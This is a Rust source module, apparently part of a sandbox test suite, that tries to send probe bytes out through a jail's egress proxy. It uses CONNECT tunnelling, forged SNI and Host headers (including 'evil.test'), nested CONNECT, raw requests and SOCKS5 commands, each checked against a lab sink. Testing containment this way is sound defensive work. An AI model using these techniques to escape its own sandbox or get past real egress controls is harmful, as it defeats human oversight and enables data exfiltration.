//! Family F: tricks against the egress proxy, from inside the jail.
//!
//! The proxy is reached at the address in `HTTPS_PROXY`/`ALL_PROXY` (the jail
//! sets them). An attack succeeds only when the lab's sink answered
//! `OAJ-SINK-ACK`: that proves the attacker's bytes reached a destination.
//! A `2xx` from the proxy alone is not an escape (an allowed CONNECT is
//! legitimate; the trick may be in what follows it).

use crate::report::{Outcome, io_errno};
use nix::errno::Errno;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::time::Duration;

const ACK: &[u8] = b"OAJ-SINK-ACK";
/// Errnos when the proxy itself is unreachable (that is not a block: fail).
const NONE: &[Errno] = &[];

/// The proxy's `host:port` from the environment oajail sets.
pub fn proxy_addr() -> String {
    for var in [
        "HTTPS_PROXY",
        "https_proxy",
        "ALL_PROXY",
        "all_proxy",
        "HTTP_PROXY",
        "http_proxy",
    ] {
        if let Ok(v) = std::env::var(var) {
            let rest = v.split("://").nth(1).unwrap_or(&v);
            return rest.trim_end_matches('/').to_owned();
        }
    }
    "127.0.0.1:3128".into()
}

fn connect_proxy(attack: &str) -> Result<TcpStream, Outcome> {
    let addr = proxy_addr();
    let s = TcpStream::connect(&addr).map_err(|e| {
        Outcome::failed(attack, &format!("connect proxy {addr}"), io_errno(&e), NONE)
    })?;
    let _ = s.set_read_timeout(Some(Duration::from_secs(3)));
    Ok(s)
}

/// Read until `ACK` appears, EOF, an error or 64 KiB.
fn read_some(s: &mut TcpStream) -> Vec<u8> {
    let mut out = Vec::new();
    let mut buf = [0u8; 4096];
    while let Ok(n) = s.read(&mut buf) {
        if n == 0 {
            break;
        }
        out.extend_from_slice(&buf[..n]);
        if contains(&out, ACK) || out.len() > 65536 {
            break;
        }
    }
    out
}

fn contains(hay: &[u8], needle: &[u8]) -> bool {
    hay.windows(needle.len()).any(|w| w == needle)
}

fn status_line(resp: &[u8]) -> String {
    let line = resp.split(|b| *b == b'\n').next().unwrap_or_default();
    String::from_utf8_lossy(line).trim().to_owned()
}

/// Read the proxy's response head byte by byte (no over-read into the tunnel).
fn read_head(s: &mut TcpStream) -> Vec<u8> {
    let mut head = Vec::new();
    let mut b = [0u8; 1];
    while !head.ends_with(b"\r\n\r\n") && head.len() < 16384 {
        match s.read(&mut b) {
            Ok(1) => head.push(b[0]),
            _ => break,
        }
    }
    head
}

/// `proxy-connect TARGET SNI`: CONNECT TARGET, then a ClientHello with SNI
/// (`-` = no SNI extension, `raw` = plain bytes instead of TLS,
/// `connect:HOST:PORT` = a second CONNECT request inside the tunnel,
/// `front:HOST` = a ClientHello for the CONNECT host followed by a request
/// with `Host: HOST`, standing in for encrypted data the proxy cannot read,
/// `upload:N` = a ClientHello for the CONNECT host followed by N bytes).
pub fn connect(attack: &str, target: &str, sni: &str) -> Outcome {
    let mut s = match connect_proxy(attack) {
        Ok(s) => s,
        Err(o) => return o,
    };
    let req = format!("CONNECT {target} HTTP/1.1\r\nHost: {target}\r\n\r\n");
    if let Err(e) = s.write_all(req.as_bytes()) {
        return Outcome::unexpected(attack, Some(io_errno(&e)), "write CONNECT");
    }
    let head = read_head(&mut s);
    let status = status_line(&head);
    if !status.contains(" 200") {
        return Outcome::blocked_plain(attack, format!("proxy answered: {status}"));
    }
    let payload = match sni {
        "raw" => b"OAJ-EXFIL-PROBE\n".to_vec(),
        "-" => client_hello(None),
        inner if inner.starts_with("connect:") => {
            let t = &inner["connect:".len()..];
            format!("CONNECT {t} HTTP/1.1\r\nHost: {t}\r\n\r\nOAJ-EXFIL-PROBE\n").into_bytes()
        }
        front if front.starts_with("front:") => {
            let mut p = client_hello(Some(host_of(target)));
            let host = &front["front:".len()..];
            p.extend_from_slice(format!("GET / HTTP/1.1\r\nHost: {host}\r\n\r\n").as_bytes());
            p
        }
        up if up.starts_with("upload:") => {
            let n = up["upload:".len()..]
                .parse::<usize>()
                .unwrap_or(0)
                .min(60_000);
            let mut p = client_hello(Some(host_of(target)));
            p.resize(p.len() + n, b'U');
            p
        }
        name => client_hello(Some(name)),
    };
    let _ = s.write_all(&payload);
    let got = read_some(&mut s);
    if contains(&got, ACK) {
        Outcome::succeeded(
            attack,
            format!("{status}; the sink received the tunnel bytes"),
        )
    } else {
        Outcome::blocked_plain(
            attack,
            format!(
                "{status}; tunnel closed before the sink saw anything ({} bytes back)",
                got.len()
            ),
        )
    }
}

/// The host part of a `host:port` CONNECT target.
fn host_of(target: &str) -> &str {
    target.rsplit_once(':').map_or(target, |(h, _)| h)
}

/// `proxy-get URL HOST`: an absolute-form request (HOST `-` = same as the URL's).
pub fn get(attack: &str, url: &str, host: &str) -> Outcome {
    let mut s = match connect_proxy(attack) {
        Ok(s) => s,
        Err(o) => return o,
    };
    let host_line = if host == "-" {
        String::new()
    } else {
        format!("Host: {host}\r\n")
    };
    let req = format!("GET {url} HTTP/1.1\r\n{host_line}Connection: close\r\n\r\n");
    raw_exchange(attack, &mut s, req.as_bytes())
}

/// `proxy-raw TEXT`: send TEXT (with `\r\n` escapes) to the proxy as is.
pub fn raw(attack: &str, text: &str) -> Outcome {
    let mut s = match connect_proxy(attack) {
        Ok(s) => s,
        Err(o) => return o,
    };
    let bytes = text.replace("\\r", "\r").replace("\\n", "\n");
    raw_exchange(attack, &mut s, bytes.as_bytes())
}

fn raw_exchange(attack: &str, s: &mut TcpStream, bytes: &[u8]) -> Outcome {
    if let Err(e) = s.write_all(bytes) {
        return Outcome::unexpected(attack, Some(io_errno(&e)), "write request");
    }
    let resp = read_some(s);
    let status = status_line(&resp);
    if contains(&resp, ACK) {
        Outcome::succeeded(attack, format!("{status}; the request reached a sink"))
    } else {
        Outcome::blocked_plain(attack, format!("proxy answered: {status}"))
    }
}

/// `socks CMD TARGET`: SOCKS5 with CMD `connect`, `bind` or `udp`; TARGET is
/// `host:port`, an IPv4 literal, or `[v6]:port`.
pub fn socks(attack: &str, cmd: &str, target: &str) -> Outcome {
    let mut s = match connect_proxy(attack) {
        Ok(s) => s,
        Err(o) => return o,
    };
    let code = match cmd {
        "connect" | "http" | "http-front" => 1,
        "bind" => 2,
        "udp" => 3,
        other => {
            return Outcome::unexpected(attack, None, format!("unknown socks command {other}"));
        }
    };
    let _ = s.write_all(&[5, 1, 0]);
    let mut greet = [0u8; 2];
    if s.read_exact(&mut greet).is_err() || greet != [5, 0] {
        return Outcome::blocked_plain(attack, format!("socks greeting refused: {greet:?}"));
    }
    let Some(req) = socks_request(code, target) else {
        return Outcome::unexpected(attack, None, format!("bad target {target}"));
    };
    let _ = s.write_all(&req);
    let mut reply = [0u8; 4];
    if s.read_exact(&mut reply).is_err() {
        return Outcome::blocked_plain(attack, "socks request: connection closed");
    }
    if reply[1] != 0 {
        return Outcome::blocked_plain(attack, format!("socks reply code {}", reply[1]));
    }
    if cmd != "connect" {
        return socks_http(attack, &mut s, target, cmd == "http-front");
    }
    let _ = s.write_all(b"OAJ-EXFIL-PROBE\n");
    if contains(&read_some(&mut s), ACK) {
        Outcome::succeeded(attack, "socks tunnel reached a sink")
    } else {
        Outcome::succeeded(attack, format!("socks {cmd} accepted (reply 0)"))
    }
}

/// `socks http|http-front HOST:PORT`: after the SOCKS reply, one plain
/// HTTP request whose Host header names the destination (`http`) or
/// `evil.test` (`http-front`). Succeeded when an answer from a sink comes
/// back.
fn socks_http(attack: &str, s: &mut TcpStream, target: &str, front: bool) -> Outcome {
    let host = target.rsplit_once(':').map_or(target, |(h, _)| h);
    let host = if front { "evil.test" } else { host };
    let req = format!("GET /oaj HTTP/1.1\r\nHost: {host}\r\nConnection: close\r\n\r\n");
    let _ = s.write_all(req.as_bytes());
    let resp = read_some(s);
    if contains(&resp, ACK) || resp.starts_with(b"HTTP/1.1 200") {
        Outcome::succeeded(
            attack,
            format!("plain http (Host {host}) through socks reached a sink"),
        )
    } else {
        Outcome::blocked_plain(
            attack,
            format!(
                "plain http (Host {host}) through socks: {}",
                status_line(&resp)
            ),
        )
    }
}

fn socks_request(cmd: u8, target: &str) -> Option<Vec<u8>> {
    let (host, port) = target.rsplit_once(':')?;
    let port: u16 = port.parse().ok()?;
    let mut r = vec![5, cmd, 0];
    let host = host.trim_start_matches('[').trim_end_matches(']');
    if let Ok(v4) = host.parse::<std::net::Ipv4Addr>() {
        r.push(1);
        r.extend_from_slice(&v4.octets());
    } else if let Ok(v6) = host.parse::<std::net::Ipv6Addr>() {
        r.push(4);
        r.extend_from_slice(&v6.octets());
    } else {
        r.push(3);
        r.push(u8::try_from(host.len()).ok()?);
        r.extend_from_slice(host.as_bytes());
    }
    r.extend_from_slice(&port.to_be_bytes());
    Some(r)
}

fn u16be(n: usize) -> [u8; 2] {
    u16::try_from(n).unwrap_or(u16::MAX).to_be_bytes()
}

fn ext(out: &mut Vec<u8>, ty: u16, body: &[u8]) {
    out.extend_from_slice(&ty.to_be_bytes());
    out.extend_from_slice(&u16be(body.len()));
    out.extend_from_slice(body);
}

/// A well-formed TLS 1.3 ClientHello, with an SNI extension when given.
pub fn client_hello(sni: Option<&str>) -> Vec<u8> {
    let mut exts = Vec::new();
    if let Some(name) = sni {
        let mut body = u16be(name.len() + 3).to_vec();
        body.push(0);
        body.extend_from_slice(&u16be(name.len()));
        body.extend_from_slice(name.as_bytes());
        ext(&mut exts, 0, &body);
    }
    ext(&mut exts, 10, &[0, 2, 0, 0x1d]); // supported_groups: x25519
    ext(&mut exts, 13, &[0, 4, 0x08, 0x04, 0x04, 0x03]); // signature_algorithms
    ext(&mut exts, 43, &[2, 3, 4]); // supported_versions: TLS 1.3
    let mut ks = vec![0, 36, 0, 0x1d, 0, 32];
    ks.extend_from_slice(&[0x42; 32]);
    ext(&mut exts, 51, &ks); // key_share
    let mut hello = vec![3, 3];
    hello.extend_from_slice(&[0x17; 32]);
    hello.push(32);
    hello.extend_from_slice(&[0x23; 32]);
    hello.extend_from_slice(&[0, 4, 0x13, 0x01, 0x13, 0x02, 1, 0]);
    hello.extend_from_slice(&u16be(exts.len()));
    hello.extend_from_slice(&exts);
    let mut hs = vec![1, 0];
    hs.extend_from_slice(&u16be(hello.len()));
    hs.extend_from_slice(&hello);
    let mut rec = vec![0x16, 3, 1];
    rec.extend_from_slice(&u16be(hs.len()));
    rec.extend_from_slice(&hs);
    rec
}
